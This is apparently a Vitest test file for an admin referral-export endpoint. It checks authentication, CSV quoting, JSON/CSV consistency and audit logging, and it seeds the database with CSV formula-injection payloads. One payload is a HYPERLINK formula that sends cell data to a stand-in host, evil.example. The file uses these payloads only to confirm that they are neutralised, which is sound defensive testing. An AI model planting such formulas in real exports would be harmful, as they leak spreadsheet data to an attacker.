import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { NextRequest } from "next/server";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { auditLog, referralCodes, referralUsageLog, subscriptions, users } from "@/db/schema";
import { useTestDatabase } from "@/testing/use-test-database";
import { GET } from "@/app/api/admin/referral-export/route";
import { createApiKey } from "@/lib/auth/api-keys";
import { neutralizeCell } from "@/lib/csv";
import { EXPORT_FIELDS } from "@/lib/queries/referral-export";

// No session outside a request: the anonymous caller. API keys are resolved from the database as usual.
vi.mock("@/lib/auth/session", async (importOriginal) => ({
  ...(await importOriginal<typeof import("@/lib/auth/session")>()),
  getSessionUser: async () => null,
}));

const testDb = useTestDatabase();
let apiKey = "";

// Names a spreadsheet would run, or a naive CSV writer would break on.
const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  "+1 (555) 0100",
  "@SUM(A1:A9)",
  "-2+3",
  "\tTabbed",
  "\rCarriage",
  'She said "hi"',
  "Comma, Inc.",
  "Line one\nLine two",
  "Line one\r\nLine two",
  "Zoë 🦄 Müller-Łukasz 中文",
  "  spaced  ",
];

beforeAll(async () => {
  const db = testDb.db;
  const [referrer] = await db
    .insert(users)
    .values({
      email: "=cmd@example.com",
      normalizedEmail: "=cmd@example.com",
      name: "=1+1",
      passwordHash: "x",
    })
    .returning({ id: users.id });
  const [code] = await db
    .insert(referralCodes)
    .values({ clientId: referrer.id, code: "HOSTILE1", canonicalCode: "H0ST11E1" })
    .returning({ id: referralCodes.id });
  for (const [i, name] of HOSTILE_NAMES.entries()) {
    const email = `friend${i}@example.org`;
    const [referred] = await db
      .insert(users)
      .values({ email, normalizedEmail: email, name, passwordHash: "x" })
      .returning({ id: users.id });
    await db.insert(subscriptions).values({ userId: referred.id, tierId: 1 + (i % 3) });
    await db.insert(referralUsageLog).values({
      referralCodeId: code.id,
      referrerUserId: referrer.id,
      referredUserId: referred.id,
      codeUsed: "HOSTILE1",
      signupIp: i === 0 ? "=2+5" : `192.168.1.${100 + i}`,
      source: i % 2 ? "email" : "link",
      isFlagged: i === 3,
      commissionEligible: i !== 3,
      commissionAmountCents: 999 * i,
      commissionPaid: i === 2,
      usedAt: new Date(Date.parse("2025-08-01T10:00:00Z") + i * 86_400_000),
    });
  }
  apiKey = (await createApiKey(db, { name: "export test" })).key;
});

async function exportRequest(query: string, auth: string | null = `Bearer ${apiKey}`): Promise<Response> {
  const headers = new Headers();
  if (auth) headers.set("authorization", auth);
  const req = new NextRequest(`http://localhost/api/admin/referral-export?${query}`, { headers });
  return GET(req, { params: Promise.resolve({}) });
}

const parseCsv = (text: string): string[][] =>
  parse(text, { bom: true, relax_column_count: false, skip_empty_lines: false }) as string[][];

describe("GET /api/admin/referral-export", () => {
  it("refuses callers without credentials (401) and bad parameters (400, with the reason)", async () => {
    const anonymous = await exportRequest("format=csv", null);
    expect(anonymous.status).toBe(401);
    const wrongKey = await exportRequest("format=csv", "Bearer mnk_not-a-key");
    expect(wrongKey.status).toBe(401);
    const bad = await exportRequest("format=xml&commission_status=owed&start_date=yesterday");
    expect(bad.status).toBe(400);
    const body = await bad.json();
    expect(body.success).toBe(false);
    expect(body.details.join(" ")).toMatch(/format must be json or csv/);
    expect(body.details.join(" ")).toMatch(/commission_status must be one of/);
    expect(body.details.join(" ")).toMatch(/start_date must be a date/);
  });

  it("writes hostile names as plain text: RFC 4180 quoting, formulas neutralised, UTF-8 intact", async () => {
    // Oldest first, so the rows line up with HOSTILE_NAMES (the table's default is newest first).
    const res = await exportRequest("format=csv&dir=asc");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get("content-disposition")).toMatch(
      /attachment; filename="referrals-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    expect(res.headers.get("x-total-count")).toBe(String(HOSTILE_NAMES.length));
    const bytes = new Uint8Array(await res.arrayBuffer());
    // A UTF-8 byte-order mark, so spreadsheets read the file as UTF-8 (Response.text() drops it).
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(text.startsWith("\uFEFFreferral_code,")).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    // Line breaks inside a value are quoted (a bare LF or CR too), so every spreadsheet keeps one row each.
    expect(text).toContain(',"Line one\nLine two",');
    expect(text).toContain(',"Line one\r\nLine two",');
    expect(text).toContain(`,"'\rCarriage",`);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...EXPORT_FIELDS]);
    expect(rows).toHaveLength(HOSTILE_NAMES.length);
    const col = (name: (typeof EXPORT_FIELDS)[number]) => header.indexOf(name);
    expect(rows.map((r) => r[col("referred_name")])).toEqual(HOSTILE_NAMES.map(neutralizeCell));
    // Every cell that a spreadsheet would evaluate starts with the apostrophe now.
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows[0][col("referrer_name")]).toBe("'=1+1");
    expect(rows[0][col("referrer_email")]).toBe("'=cmd@example.com");
    expect(rows[0][col("signup_ip")]).toBe("'=2+5");
    expect(rows[10][col("referred_name")]).toBe("Zoë 🦄 Müller-Łukasz 中文");
    expect(rows[3][col("commission_amount")]).toBe("29.97");
    expect(rows[3][col("commission_eligible")]).toBe("false");
    expect(rows[2][col("commission_paid")]).toBe("true");
    expect(rows[1][col("subscription_tier")]).not.toBe("");
  });

  it("JSON has the seed's envelope and fields, and agrees with CSV row for row on the same filter", async () => {
    const query = "start_date=2025-08-02&end_date=2025-08-09&commission_status=eligible&dir=asc";
    const json = await exportRequest(`${query}&format=json`);
    expect(json.status).toBe(200);
    expect(json.headers.get("content-type")).toMatch(/^application\/json/);
    const body = await json.json();
    expect(body.success).toBe(true);
    expect(body.data.filters_applied).toEqual({
      start_date: "2025-08-02",
      end_date: "2025-08-09",
      commission_status: "eligible",
    });
    expect(Date.parse(body.data.export_date)).not.toBeNaN();
    // 2nd to 9th of August, minus the flagged (ineligible) one on the 4th.
    expect(body.data.total_records).toBe(7);
    expect(body.data.referrals).toHaveLength(7);
    expect(body.data.referrals[0]).toEqual({
      referral_code: "HOSTILE1",
      referrer_email: "=cmd@example.com",
      referred_email: "friend1@example.org",
      signup_date: "2025-08-02T10:00:00.000Z",
      commission_amount: "9.99",
      commission_eligible: true,
      commission_paid: false,
      subscription_tier: expect.any(String),
      signup_ip: "192.168.1.101",
      referral_id: expect.any(Number),
      referrer_name: "=1+1",
      referred_name: "+1 (555) 0100",
      source: "email",
      flagged: false,
      commission_other_currencies: null,
    });

    const csv = await exportRequest(`${query}&format=csv`);
    const [header, ...rows] = parseCsv(await csv.text());
    const fromJson = body.data.referrals.map((r: Record<string, unknown>) =>
      header.map((field) => {
        const v = r[field];
        return v === null ? "" : neutralizeCell(String(v));
      }),
    );
    expect(rows).toEqual(fromJson);
  });

  it("has the table's view: newest first by default, its sort, and its chosen columns under its labels", async () => {
    const newest = await (await exportRequest("format=json")).json();
    const dates = newest.data.referrals.map((r: { signup_date: string }) => r.signup_date);
    expect(dates).toEqual([...dates].sort().reverse());

    const byCommission = await (await exportRequest("format=json&sort=commission&dir=asc")).json();
    const amounts = byCommission.data.referrals.map((r: { commission_amount: string }) =>
      Number(r.commission_amount),
    );
    expect(amounts).toEqual([...amounts].sort((a, b) => a - b));

    const columns = "commission_status,referred_name,campaign,signup_date,review";
    const csv = await exportRequest(`format=csv&dir=asc&columns=${columns}`);
    const [header, ...rows] = parseCsv(await csv.text());
    expect(header).toEqual(["Commission status", "Referred client", "Campaign", "Signed up", "Review"]);
    expect(rows).toHaveLength(HOSTILE_NAMES.length);
    expect(rows[3]).toEqual([
      "None yet",
      neutralizeCell(HOSTILE_NAMES[3]),
      "",
      expect.any(String),
      "Flagged · in review",
    ]);
    const json = await (await exportRequest(`format=json&columns=${columns}`)).json();
    expect(Object.keys(json.data.referrals[0])).toEqual(columns.split(","));

    const bad = await exportRequest("format=csv&columns=signup_date,password_hash");
    expect(bad.status).toBe(400);
    expect((await bad.json()).details.join(" ")).toMatch(/columns must be a comma-separated list/);
  });

  it("accepts every table filter and records the export in the audit log", async () => {
    const res = await exportRequest("format=json&referrer=%3Dcmd&source=link&flagged=0");
    const body = await res.json();
    expect(body.data.filters_applied).toMatchObject({ referrer: "=cmd", source: "link" });
    expect(body.data.referrals.every((r: { source: string }) => r.source === "link")).toBe(true);
    expect(body.data.total_records).toBe(6);
    const empty = await (await exportRequest("format=json&start_date=2030-01-01")).json();
    expect(empty.data).toMatchObject({ total_records: 0, referrals: [] });
    const audits = await testDb.db.select().from(auditLog).where(eq(auditLog.action, "referral.export"));
    expect(audits.length).toBeGreaterThanOrEqual(5);
    expect(audits.at(-1)).toMatchObject({ entityType: "referral", actorApiKeyId: expect.any(Number) });
  });
});
